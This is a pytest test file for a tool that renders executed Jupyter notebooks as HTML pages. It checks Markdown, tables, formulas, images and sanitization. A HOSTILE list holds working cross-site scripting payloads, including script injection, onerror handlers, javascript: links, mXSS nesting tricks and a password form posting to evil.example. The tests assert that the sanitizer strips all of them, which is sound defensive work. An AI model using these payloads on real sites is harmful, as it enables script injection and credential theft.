"""Pages of executed notebooks: what a notebook shows is on them, and of a stranger's nothing that runs or fetches."""

import re

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from labhelpers.batch.pages import cleaned, formula, notebook_page
from tests.support.paths import ROOT


@pytest.fixture
def page(tmp_path):
    """A function that makes a page of cells and parses it: page(cell, …, sanitize=True)."""

    def make(*cells, sanitize=True):
        path = tmp_path / "01.ipynb"
        nbformat.write(new_notebook(cells=list(cells)), path)
        return BeautifulSoup(notebook_page(path, sanitize), "html.parser")

    return make


def shown(kind, content, **metadata):
    """A code cell with one output of that MIME type."""
    return new_code_cell("1 + 1", outputs=[new_output("display_data", data={kind: content}, metadata=metadata)])


def test_headings_and_paragraphs_are_no_text(page):
    found = page(new_markdown_cell("# Title\n\nA paragraph\n\n- one\n\n1. first"))
    assert found.h1["id"] == "Title" and "A paragraph" in [p.text for p in found("p")]
    assert found.ul.li.text == "one" and found.ol.li.text.strip() == "first"
    assert "<" not in found.get_text()


def test_tables_keep_their_heads(page):
    markdown = "| a | b |\n|---|--:|\n| 1 | 2 |"
    frame = "<style scoped>.dataframe td { color: red }</style><table class='dataframe' border='1' onclick='x()'>"
    frame += (
        "<thead><tr><th>a</th></tr></thead><tbody><tr><th scope='row'>0</th><td colspan='2'>1</td></tr></tbody></table>"
    )
    found = page(new_markdown_cell(markdown), shown("text/html", frame))
    for table in found("table"):
        assert table.thead.th.text == "a" and table.tbody.td
    assert "text-align" in found.table("td")[1]["style"] and found("table")[1].tbody.th["scope"] == "row"
    assert "dataframe td" not in found.get_text() and not found("table")[1].get("onclick")


@pytest.mark.parametrize("sanitize", [True, False])
def test_formulas_are_rendered(page, sanitize):
    text = (
        r"Inline $\sigma(r_\text{chosen})$, $a < b$, and \\(\dots\\)"
        + "\n\n$$x^2$$\n\n\\begin{align}y &= 1\\end{align}"
    )
    found = page(new_markdown_cell(text), shown("text/latex", r"$\displaystyle \frac{1}{2}$"), sanitize=sanitize)
    formulas = found("math")
    assert [one.get("display") == "block" for one in formulas] == [False, False, False, True, True, False]
    assert formulas[0].mi.text == "σ" and formulas[0].mtext.text == "chosen" and formulas[5].mfrac
    assert "$" not in found.get_text()


def test_every_formula_of_the_course_is_known_to_the_converter():
    for path in sorted((ROOT / "notebooks").glob("[0-9]*.ipynb")):
        for cell in nbformat.read(path, 4).cells:
            prose = re.sub(r"`[^`]*`", "", cell.source) if cell.cell_type == "markdown" else ""
            for latex in re.findall(r"\$\$(.+?)\$\$|\$(.+?)\$", prose, re.DOTALL):
                assert formula("".join(latex)).startswith("<math"), latex


@pytest.mark.parametrize(
    "latex", [r"\href{javascript:alert(1)}{x}", r"\nothing{", "{" * 5000, '"><script>', r"\text{<b>}"]
)
def test_a_formula_is_never_markup(latex):
    found = BeautifulSoup(formula(latex), "html.parser")
    assert {tag.name for tag in found()} <= {"code", "math", "mi", "mo", "mn", "mtext", "mrow"}


def test_code_is_highlighted_and_images_and_links_stay(page):
    image = "iVBORw0KGgo="
    cells = [new_code_cell("def f(): return 'a < b'"), shown("image/png", image, **{"image/png": {"alt": "A dot"}})]
    cells.append(new_markdown_cell("[web](https://example.org/a?b=c&d) [here](#Title) ![x](attachment:y.png)"))
    cells[-1]["attachments"] = {"y.png": {"image/png": image}}
    found = page(*cells)
    assert found.select(".highlight .k")[0].text == "def" and "'a < b'" in found.get_text()
    assert [one["src"] for one in found("img")] == [f"data:image/png;base64,{image}"] * 2
    assert found.img["alt"] == "A dot"
    assert [one["href"] for one in found("a")] == ["https://example.org/a?b=c&d", "#Title"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' onclick='alert(1)'>x</a>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)' onclick='alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example/x)'>x</p><td style='text-align:left;position:fixed'>y</td>",
    "<scr<script>ipt>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</pre></div></body><script>alert(1)</script>",
    "<details ontoggle=alert(1) open>x</details>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_of_a_strangers_runs_or_fetches(page, hostile):
    """As Markdown, as HTML that a cell shows, in names and attributes, and as whatever else a notebook can hold."""
    tags = new_code_cell("1", metadata={"tags": [hostile.replace(",", "")]})
    error = new_output("error", ename=hostile, evalue=hostile, traceback=[hostile])
    cells = [
        new_markdown_cell(hostile),
        new_markdown_cell(f"# A {hostile}\n\n| {hostile} |\n|---|\n\n${hostile}$ `{hostile}`"),
        shown("text/html", hostile),
        shown("text/html", hostile, **{"text/html": {"isolated": True}}),
        shown("text/markdown", hostile),
        shown("text/latex", hostile),
        shown("text/plain", hostile),
        shown("application/javascript", "alert(1)"),
        shown("image/svg+xml", f"<svg>{hostile}</svg>"),
        shown("image/png", f'"{hostile}', **{"image/png": {"alt": f'"{hostile}', "width": f'"{hostile}'}}),
        new_code_cell(hostile, outputs=[new_output("stream", text=hostile), error]),
        nbformat.v4.new_raw_cell(hostile, metadata={"raw_mimetype": "text/html"}),
        tags,
    ]
    found = page(*cells)
    assert found.head.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    body = found.body
    never = "script style svg object embed form input button link base meta annotation-xml mglyph textarea".split()
    assert not body(never), body(never)
    for tag in body():
        assert not [name for name in tag.attrs if name.startswith("on") or "href" in name and tag.name != "a"], tag
        assert re.match("https?://|mailto:|#", tag.get("href", "#")), tag
        # A drawing runs no script and fetches nothing where it stands as an image.
        assert re.match(r"data:image/(png|svg\+xml);base64,", tag.get("src", "data:image/png;base64,")), tag
        assert "url(" not in tag.get("style", "") and "position" not in tag.get("style", ""), tag


def test_what_is_cleaned_is_cleaned_for_good():
    for hostile in HOSTILE:
        assert cleaned(cleaned(hostile)) == cleaned(hostile)
        assert cleaned(hostile.encode()) == cleaned(hostile)
